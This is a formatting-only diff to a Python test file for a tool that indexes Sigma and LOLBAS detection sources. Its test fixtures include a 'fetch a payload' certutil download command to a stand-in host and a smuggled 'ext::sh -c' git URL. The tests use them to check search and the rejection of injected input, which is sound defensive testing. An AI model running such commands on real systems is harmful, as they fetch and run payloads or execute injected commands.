@@ -38,8 +38,11 @@ class Playbooks(Source):
         for number, line in enumerate(parsed.lines, 1):
             match = re.match(r"run (\S+)", line)
             if match:
-                found.mentions.append(Mention(match.group(1).lower(), ctx.source, ctx.path, number, line.strip(),
-                                              field="run", role="process"))
+                found.mentions.append(
+                    Mention(
+                        match.group(1).lower(), ctx.source, ctx.path, number, line.strip(), field="run", role="process"
+                    )
+                )
         return found
 
 
@@ -66,11 +69,14 @@ def _repo(root: Path, files: dict[str, str]) -> Path:
 def test_a_third_source_is_one_module_and_one_registration(tmp_path: Path, toy: Source) -> None:
     """Registered here and nowhere else: refreshed, its files reported, its mentions searched
     (by a search process that never heard of it) with their lines."""
-    repo = _repo(tmp_path / "toy", {
-        "playbooks/download.txt": "# fetch a payload\nrun certutil.exe -urlcache -f http://x/a a.exe\nrun a.exe\n",
-        "playbooks/broken.txt": "run\n",
-        "README.md": "run notepad.exe\n",  # not a playbook: outside the files the source reads
-    })
+    repo = _repo(
+        tmp_path / "toy",
+        {
+            "playbooks/download.txt": "# fetch a payload\nrun certutil.exe -urlcache -f http://x/a a.exe\nrun a.exe\n",
+            "playbooks/broken.txt": "run\n",
+            "README.md": "run notepad.exe\n",  # not a playbook: outside the files the source reads
+        },
+    )
     data_dir = tmp_path / "data"
     manifest = refresh(RefreshOptions(data_dir, [toy.spec(str(repo))]))
     assert manifest.exit_code == 0, manifest.file_errors
@@ -79,8 +85,9 @@ def test_a_third_source_is_one_module_and_one_registration(tmp_path: Path, toy: 
     done = indexer("search", "certutil.exe", "--json", data_dir=data_dir)
     assert done.returncode == 0, done.stderr
     mentions = json.loads(done.stdout)[0]["mentions"]
-    assert [(m["source"], m["path"], m["line"], m["role"]) for m in mentions] == \
-        [("toy", "playbooks/download.txt", 2, "process")]
+    assert [(m["source"], m["path"], m["line"], m["role"]) for m in mentions] == [
+        ("toy", "playbooks/download.txt", 2, "process")
+    ]
     assert mentions[0]["url"].startswith("https://example.org/toy")  # the plug-in's web URL (a local repo)
     assert indexer("search", "notepad.exe", "--json", data_dir=data_dir).returncode != 0
     only = indexer("search", "certutil.exe", "--source", "toy", "--json", data_dir=data_dir)
@@ -104,7 +111,8 @@ def test_the_registry_holds_sigma_then_lolbas_and_refuses_a_second_of_a_name() -
 
 
 def test_a_source_url_comes_from_the_option_then_the_environment_then_upstream(
-        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
     monkeypatch.delenv("INDEXER_LOLBAS_URL", raising=False)
     assert get("lolbas").spec().url == "https://github.com/LOLBAS-Project/LOLBAS.git"
     monkeypatch.setenv("INDEXER_LOLBAS_URL", str(tmp_path / "lolbas.bundle"))
@@ -115,14 +123,17 @@ def test_a_source_url_comes_from_the_option_then_the_environment_then_upstream(
         get("sigma").spec("ext::sh -c touch% /tmp/pwned")
 
 
-@pytest.mark.parametrize("args, message", [
-    (["--url", "nosuch=/tmp/x"], "unknown source 'nosuch'"),
-    (["--url", "sigma"], "not NAME=URL"),
-    (["--url", "sigma=/tmp/a", "--sigma-url", "/tmp/b"], "sigma: two URLs"),
-    (["--sources", "sigma,nosuch"], "'nosuch' is not one of: sigma, lolbas"),
-    (["--sources", "sigma", "--url", "lolbas=/tmp/x"], "lolbas is not refreshed"),
-    (["--branch", "sigma=-x"], "refused branch name '-x'"),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (["--url", "nosuch=/tmp/x"], "unknown source 'nosuch'"),
+        (["--url", "sigma"], "not NAME=URL"),
+        (["--url", "sigma=/tmp/a", "--sigma-url", "/tmp/b"], "sigma: two URLs"),
+        (["--sources", "sigma,nosuch"], "'nosuch' is not one of: sigma, lolbas"),
+        (["--sources", "sigma", "--url", "lolbas=/tmp/x"], "lolbas is not refreshed"),
+        (["--branch", "sigma=-x"], "refused branch name '-x'"),
+    ],
+)
 def test_refresh_source_options_are_checked(tmp_path: Path, args: list[str], message: str) -> None:
     done = indexer("refresh", *args, data_dir=tmp_path / "data")
     assert done.returncode == 4 and message in done.stderr, (done.returncode, done.stderr)
